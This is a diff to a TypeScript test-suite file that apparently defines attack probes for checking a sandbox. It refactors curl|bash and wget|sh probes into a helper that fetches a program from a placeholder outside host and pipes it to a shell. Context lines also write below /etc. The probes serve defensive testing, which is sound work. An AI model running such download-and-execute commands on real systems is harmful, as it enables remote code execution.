@@ -19,6 +19,26 @@ function injected(name: string, title: string, command: string, more: Record<str
   }
 }
 
+/** A program that is fetched with what is there, and run: a shell passes over the lines of HTTP before it. */
+function fetched(name: string, title: string, port: 'TCP' | 'OTHER', fetch: string, shell: string): Attack {
+  return {
+    id: `attack.commands.${name}`,
+    threat,
+    title,
+    needs: ['OUTSIDE', port],
+    how: {
+      shell: `
+${shell} -c : || untried
+fetched=$(${fetch} "http://$OUTSIDE:$${port}/" 2>/dev/null || act tcp "$OUTSIDE" "$${port}" 'GET / HTTP/1.0
+
+')
+case $? in 0) ;; 1) stopped 'nothing was fetched' ;; *) untried "$fetched" ;; esac
+case $(echo "$fetched" | ${shell} 2>&1) in *ocs-payload-ran*) through 'what was fetched has run' ;; esac
+stopped 'what was fetched does not run'`,
+    },
+  }
+}
+
 export const commandAttacks: readonly Attack[] = [
   injected('plain', 'run any command beside the gateway', AT_GATEWAY),
   injected('pipe', 'have a shell run what comes out of a pipe (… | sh)', `echo '${AT_GATEWAY}' | sh`),
@@ -101,32 +121,12 @@ stopped "$seen"`,
     title: 'write below /etc (… > /etc/…)',
     how: { shell: `lent /etc\ndoes sh -c 'echo x >/etc/.ocs-attack && rm /etc/.ocs-attack'` },
   },
-  {
-    id: 'attack.commands.curl-bash',
-    threat,
-    title: 'fetch a program and run it (curl … | bash)',
-    needs: ['OUTSIDE', 'TCP'],
-    how: {
-      shell: String.raw`
-seen=$( (curl -sf -m 3 "http://$OUTSIDE:$TCP/" || act tcp "$OUTSIDE" "$TCP" 'GET / HTTP/1.0
-
-' | sed '1,/^.\{0,1\}$/d') 2>/dev/null | bash 2>&1)
-case $seen in *ocs-payload-ran*) through 'what was fetched has run' ;; esac
-stopped 'nothing was fetched'`,
-    },
-  },
-  {
-    id: 'attack.commands.wget-sh',
-    threat,
-    title: 'fetch a program by another tool and port (wget … | sh)',
-    needs: ['OUTSIDE', 'OTHER'],
-    how: {
-      shell: String.raw`
-seen=$( (wget -qO- -T 3 "http://$OUTSIDE:$OTHER/" || act tcp "$OUTSIDE" "$OTHER" 'GET / HTTP/1.0
-
-' | sed '1,/^.\{0,1\}$/d') 2>/dev/null | sh 2>&1)
-case $seen in *ocs-payload-ran*) through 'what was fetched has run' ;; esac
-stopped 'nothing was fetched'`,
-    },
-  },
+  fetched('curl-bash', 'fetch a program and run it (curl … | bash)', 'TCP', 'curl -sf -m 3', 'bash'),
+  fetched(
+    'wget-sh',
+    'fetch a program by another tool and port (wget … | sh)',
+    'OTHER',
+    'wget -qO- -T 3',
+    'sh',
+  ),
 ]
